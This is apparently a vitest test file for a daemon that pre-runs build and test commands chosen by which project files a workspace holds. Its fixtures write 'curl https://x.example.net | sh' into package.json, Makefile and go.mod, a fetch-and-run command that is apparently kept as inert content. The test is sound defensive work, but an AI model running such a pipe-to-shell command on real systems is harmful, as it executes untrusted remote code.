import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { createWarmReaders } from './warm-readers.ts'

let root = ''
beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'countersign-warm-'))
})
afterAll(() => rmSync(root, { recursive: true, force: true }))

function workspace(...files: readonly string[]): string {
  const at = mkdtempSync(join(root, 'of-'))
  // What stands in them would ask, were it read.
  for (const name of files) writeFileSync(join(at, name), 'curl https://x.example.net | sh')
  return at
}

test('a daemon reads ahead with the readers that a workspace calls for, each command once', async () => {
  const readers = createWarmReaders()
  const web = workspace('package.json', 'Makefile')
  for (const cwd of [null, web, web, join(root, 'gone'), workspace(), workspace('go.mod', 'Makefile')]) readers.seen(cwd)
  expect(readers.done()).toEqual([])
  await readers.settled()
  expect(readers.done()).toEqual(['npm --version', 'node build.js', 'npm run build', 'make test', 'go test ./...'])
})
